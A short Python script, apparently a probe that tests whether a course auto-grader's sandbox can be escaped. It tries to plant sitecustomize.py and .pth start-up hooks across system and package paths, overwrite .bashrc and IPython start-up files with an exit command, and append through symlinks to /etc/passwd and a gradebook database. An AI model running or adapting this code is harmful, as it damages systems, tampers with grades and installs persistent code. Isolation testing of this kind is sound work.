"""Writes to the folders above, to the packages, to start-up files and through links."""

# %% added
import os
import pathlib
import site
import sys

SCORE = "attack-was-here"
places = ["..", "../..", "../../..", "{course}", "{course}/submitted", "{repository}", "/", "/etc", "/usr", "/course", "/box"]
places += [*filter(None, sys.path), *site.getsitepackages(), "/course/pixelgrad", os.path.dirname(os.__file__), "/proc/1/cwd", "/sys"]
wrote = []
for place in places:
    for name in (SCORE, "sitecustomize.py", "attack-was-here.pth"):
        try:
            pathlib.Path(place, name).write_text("import os; os.environ['ATTACK'] = '1'")
            wrote.append(f"{place}/{name}")
        except OSError:
            pass
for name in (".ipython/profile_default/startup/00.py", ".config/matplotlib/matplotlibrc", ".bashrc", ".pythonrc"):
    path = pathlib.Path(os.path.expanduser("~"), name)
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("raise SystemExit")
    except OSError:
        pass
for target in ("/etc/passwd", "{course}/gradebook.db", "/proc/1/root"):
    try:
        os.symlink(target, f"attack-{len(target)}")
        open(f"attack-{len(target)}", "a").write(SCORE)
        wrote.append(target)
    except OSError:
        pass
print("FOUND", len([place for place in wrote if not place.startswith(("..", "/box", "/tmp/"))]), wrote)
